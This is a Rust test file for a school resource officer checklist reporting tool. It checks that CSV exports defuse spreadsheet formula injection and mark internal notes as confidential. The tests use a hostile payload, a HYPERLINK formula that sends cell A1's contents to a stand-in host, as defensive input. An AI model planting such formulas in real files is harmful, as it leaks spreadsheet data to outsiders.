//! What the CSV and JSON exports may carry: no cell a spreadsheet program would run as a
//! formula, in every CSV the tool writes (and `import` reads such cells back as typed), and a
//! CONFIDENTIAL mark on every export that carries internal notes.

use std::fs;
use std::path::{Path, PathBuf};

use crate::common::{run_ok, tool};

/// The first characters a spreadsheet program reads as the start of a formula.
const DANGEROUS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text starting with `first` that a spreadsheet would run.
fn payload(first: char) -> String {
    format!("{first}HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")")
}

/// An answers file whose district, label, evidence, note and internal note all start with
/// `first` (the label is made unique per character so that compare can tell files apart).
fn hostile_answers(dir: &Path, first: char, name: &str) -> PathBuf {
    let text = payload(first);
    let quoted = serde_json::to_string(&text).unwrap();
    let label = serde_json::to_string(&format!("{first}{name}")).unwrap();
    let path = dir.join(format!("{name}.yaml"));
    fs::write(
        &path,
        format!(
            "checklist: wi-sro-best-practices\n\
             profile: existing-program\n\
             district: {quoted}\n\
             label: {label}\n\
             date: 2026-03-15\n\
             answers:\n\
             \x20 governance.written-mou:\n\
             \x20   status: partial\n\
             \x20   evidence: {quoted}\n\
             \x20   note: {quoted}\n\
             \x20   internal_note: {quoted}\n"
        ),
    )
    .unwrap();
    path
}

fn stdout_of(args: &[&str], files: &[&Path]) -> String {
    let output = tool().args(args).args(files).output().unwrap();
    assert!(
        output.status.success() || output.status.code() == Some(1),
        "{args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

fn cells(csv_text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// No cell starts with a formula character, and the payload appears only neutralized (as
/// `'=HYPERLINK...`, quoted in the file) at least once.
fn assert_neutralized(what: &str, first: char, csv_text: &str) {
    let rows = cells(csv_text);
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            let negative_number = cell.strip_prefix('-').is_some_and(|n| {
                !n.is_empty() && n.chars().all(|ch| ch.is_ascii_digit() || ch == '.')
            });
            assert!(
                !cell.starts_with(DANGEROUS) || negative_number,
                "{what} ({first:?}): row {r} column {c} starts with a formula character: {cell:?}"
            );
        }
    }
    let neutralized = format!("'{}", payload(first));
    if rows.iter().flatten().any(|cell| *cell == neutralized) {
        assert!(
            csv_text.contains(&format!("\"'{first}HYPERLINK")),
            "{what} ({first:?}): the neutralized cell is not quoted"
        );
        return;
    }
    // The loader trims a leading tab or carriage return from answers text: what is left starts
    // with H and is harmless. The writer's own handling of both is tested in `csv_cell`.
    let trimmed = payload(first)[1..].to_string();
    assert!(
        first.is_whitespace() && rows.iter().flatten().any(|cell| *cell == trimmed),
        "{what} ({first:?}): no neutralized cell in:\n{csv_text}"
    );
}

#[test]
fn every_csv_the_tool_writes_neutralizes_formulas() {
    let dir = tempfile::tempdir().unwrap();
    for first in DANGEROUS {
        let a = hostile_answers(dir.path(), first, "a");
        let b = hostile_answers(dir.path(), first, "b");
        let report = stdout_of(&["report", "-f", "csv", "--include-internal-notes"], &[&a]);
        assert_neutralized("report", first, &report);
        let compare = stdout_of(&["compare", "-f", "csv"], &[&a, &b]);
        assert_neutralized("compare", first, &compare);
        let summary = stdout_of(&["summary", "-f", "csv"], &[&a, &b]);
        assert_neutralized("summary", first, &summary);

        let template = dir.path().join("template.csv");
        let district = payload(first);
        tool()
            .args(["init", "--force", "--date", "2026-03-15"])
            .arg(format!("--district={district}"))
            .arg("--from")
            .arg(&a)
            .arg("-o")
            .arg(&template)
            .assert()
            .success();
        let text = fs::read_to_string(&template).unwrap();
        assert_neutralized("init --from template", first, &text);
    }
}

/// The value of `answers.ITEM.FIELD` (or a header field with `item` empty) in a YAML file.
fn yaml_field(path: &Path, item: &str, field: &str) -> Option<String> {
    let value: serde_yaml::Value =
        serde_yaml::from_str(&fs::read_to_string(path).unwrap()).unwrap();
    let node = if item.is_empty() {
        value.get(field)
    } else {
        value.get("answers")?.get(item)?.get(field)
    };
    node?.as_str().map(String::from)
}

#[test]
fn import_of_a_csv_template_gives_back_the_text_as_typed() {
    let dir = tempfile::tempdir().unwrap();
    let typed = [
        "-2 officers on site, not 3",
        "=SUM(A1:A2) is how the budget sheet adds it",
        "+1 position requested",
        "@district office keeps the roster",
        "'=quoted on purpose",
        "''two quotes",
        "'Tis the season",
        "-12.5",
    ];
    for text in typed {
        let answers = dir.path().join("earlier.yaml");
        fs::write(
            &answers,
            format!(
                "checklist: wi-sro-best-practices\nprofile: existing-program\n\
                 district: {quoted}\nlabel: \"2025\"\ndate: 2025-03-15\n\
                 answers:\n  governance.written-mou:\n    status: met\n    evidence: {quoted}\n",
                quoted = serde_json::to_string(text).unwrap()
            ),
        )
        .unwrap();
        let template = dir.path().join("template.csv");
        tool()
            .args(["init", "--force", "--date", "2026-03-15", "--from"])
            .arg(&answers)
            .arg("-o")
            .arg(&template)
            .assert()
            .success();
        let imported = dir.path().join("imported.yaml");
        tool()
            .arg("import")
            .arg(&template)
            .arg("--force")
            .arg("-o")
            .arg(&imported)
            .assert()
            .success();
        assert_eq!(
            yaml_field(&imported, "governance.written-mou", "evidence").as_deref(),
            Some(text),
            "evidence"
        );
        assert_eq!(
            yaml_field(&imported, "", "district").as_deref(),
            Some(text),
            "district"
        );
    }
}

const SECRET: &str = "Names student J. Doe";

fn answers_with_internal_note(dir: &Path) -> PathBuf {
    let path = dir.join("answers.yaml");
    fs::write(
        &path,
        format!(
            "checklist: wi-sro-best-practices\nprofile: existing-program\n\
             district: Example Area School District\nlabel: \"2026\"\ndate: 2026-03-15\n\
             answers:\n  governance.written-mou:\n    status: partial\n    \
             internal_note: {SECRET}\n"
        ),
    )
    .unwrap();
    path
}

#[test]
fn csv_and_json_with_internal_notes_say_confidential_and_only_then() {
    let dir = tempfile::tempdir().unwrap();
    let answers = answers_with_internal_note(dir.path());

    let public_csv = stdout_of(&["report", "-f", "csv"], &[&answers]);
    assert!(!public_csv.contains(SECRET));
    assert!(!public_csv.contains("CONFIDENTIAL"));
    // This thin file is a draft: the header is still the first row, and every row says so.
    assert!(public_csv.starts_with("district,label,"), "{public_csv}");
    assert!(public_csv.lines().skip(1).all(|l| l.contains("DRAFT: ")));
    let public_json = stdout_of(&["report", "-f", "json"], &[&answers]);
    assert!(!public_json.contains(SECRET));
    let value: serde_json::Value = serde_json::from_str(&public_json).unwrap();
    assert_eq!(value["confidential"], serde_json::Value::Bool(false));

    let private_csv = stdout_of(
        &["report", "-f", "csv", "--include-internal-notes"],
        &[&answers],
    );
    assert!(private_csv.contains(SECRET));
    // The header first; every row says it is confidential, where a filter finds it.
    let mut strict = csv::ReaderBuilder::new().from_reader(private_csv.as_bytes());
    let header = strict.headers().unwrap().clone();
    assert_eq!(header.get(0), Some("district"));
    let at = header.iter().position(|h| h == "confidential").unwrap();
    assert!(strict.records().all(|r| r.is_ok_and(|r| &r[at] == "true")));

    let private_json = stdout_of(
        &["report", "-f", "json", "--include-internal-notes"],
        &[&answers],
    );
    assert!(private_json.contains(SECRET));
    let value: serde_json::Value = serde_json::from_str(&private_json).unwrap();
    assert_eq!(value["confidential"], serde_json::Value::Bool(true));
}

#[test]
fn comparison_and_summary_json_are_never_confidential() {
    let files = [
        Path::new("examples/year-2025.yaml"),
        Path::new("examples/year-2026.yaml"),
    ];
    for command in ["compare", "summary"] {
        let json = stdout_of(&[command, "-f", "json"], &files);
        let value: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(
            value["confidential"],
            serde_json::Value::Bool(false),
            "{command}"
        );
    }
}

#[test]
fn the_csv_reports_of_every_example_stack_under_one_header() {
    let mut header: Option<String> = None;
    let mut stacked = String::new();
    for example in crate::common::example_files() {
        let csv = run_ok(&["report", example.to_str().unwrap(), "-f", "csv"]);
        let (first, rows) = csv.split_once('\n').unwrap();
        match &header {
            None => {
                stacked.push_str(first);
                stacked.push('\n');
                header = Some(first.to_string());
            }
            Some(h) => assert_eq!(h, first, "{}: another header", example.display()),
        }
        stacked.push_str(rows);
    }
    // As pandas.concat of read_csv would: one header, every row of its width.
    let mut reader = csv::Reader::from_reader(stacked.as_bytes());
    let columns = reader.headers().unwrap().len();
    let draft = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "draft")
        .unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(rows.iter().all(|r| r.len() == columns));
    assert!(
        rows.iter().any(|r| r[draft].starts_with("DRAFT: ")),
        "the draft example is marked"
    );
    assert!(
        rows.iter().any(|r| r[draft].is_empty()),
        "the finished ones are not"
    );
}

#[test]
fn bom_begins_a_csv_for_excel_and_changes_nothing_else() {
    let plain = run_ok(&["report", "examples/existing-program.yaml", "-f", "csv"]);
    let with_bom = tool()
        .args([
            "report",
            "examples/existing-program.yaml",
            "-f",
            "csv",
            "--bom",
        ])
        .output()
        .unwrap()
        .stdout;
    assert_eq!(&with_bom[..3], &[0xEF, 0xBB, 0xBF]);
    assert_eq!(&with_bom[3..], plain.as_bytes());
    let summary = tool()
        .args(["summary", "examples", "-f", "csv", "--bom"])
        .output()
        .unwrap()
        .stdout;
    assert!(summary.starts_with(&[0xEF, 0xBB, 0xBF, b'r']));
}

/// Stacks CSV files as a state analyst would (`pandas.concat` of `read_csv`, `utf-8-sig` so a
/// BOM is read as one), and fails unless every file has the same columns, none unnamed; prints
/// the rows, the rows marked DRAFT and the distinct `confidential` values.
const PANDAS_STACK: &str = r#"
import sys
import pandas as pd
frames = [pd.read_csv(f, encoding="utf-8-sig") for f in sys.argv[1:]]
columns = [list(f.columns) for f in frames]
for name, c in zip(sys.argv[1:], columns):
    assert c == columns[0], f"{name}: columns {c[:4]}... differ from {columns[0][:4]}..."
stacked = pd.concat(frames, ignore_index=True)
assert not any(str(c).startswith("Unnamed") for c in stacked.columns), list(stacked.columns)
drafts = stacked["draft"].fillna("").astype(str).str.startswith("DRAFT: ").sum()
print(len(stacked), drafts, sorted(stacked["confidential"].astype(str).unique()))
"#;

/// Whether pandas can run here; see [`crate::external::can_run`].
fn pandas_runs() -> bool {
    let installed = std::process::Command::new("python3")
        .args(["-c", "import pandas"])
        .output()
        .is_ok_and(|o| o.status.success());
    let missing = (!installed)
        .then(|| "python3 or its pandas module is missing: python3 -m pip install pandas".into());
    crate::external::can_run("CSV reports stacked by pandas", missing)
}

fn pandas_stack(files: &[PathBuf]) -> std::process::Output {
    std::process::Command::new("python3")
        .args(["-c", PANDAS_STACK])
        .args(files)
        .output()
        .unwrap()
}

#[test]
fn pandas_stacks_the_csv_reports_of_drafts_and_final_reports_alike() {
    if !pandas_runs() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let mut files = Vec::new();
    let mut rows = 0;
    for (n, example) in crate::common::example_files().iter().enumerate() {
        let out = dir.path().join(format!("{n}.csv"));
        let mut args = vec![
            "report",
            example.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
        ];
        // One written for Excel on Windows, with a BOM.
        if n == 0 {
            args.push("--bom");
        }
        tool().args(&args).assert().success();
        rows += fs::read_to_string(&out).unwrap().lines().count() - 1;
        files.push(out);
    }
    let output = pandas_stack(&files);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let mut figures = stdout.split_whitespace();
    let stacked: usize = figures.next().unwrap().parse().unwrap();
    let drafts: usize = figures.next().unwrap().parse().unwrap();
    assert_eq!(stacked, rows, "{stdout}");
    assert!(drafts > 0 && drafts < rows, "{stdout}");
    assert!(stdout.contains("['False']"), "{stdout}");

    // A note on the first line, as DRAFT reports once had, is what pandas would take as the
    // header: the check sees it.
    let noted = dir.path().join("noted.csv");
    let text = fs::read_to_string(&files[1]).unwrap();
    fs::write(&noted, format!("DRAFT: not final\n{text}")).unwrap();
    let failed = pandas_stack(&[files[1].clone(), noted]);
    assert!(
        !failed.status.success(),
        "a note line above the header was not caught"
    );
}
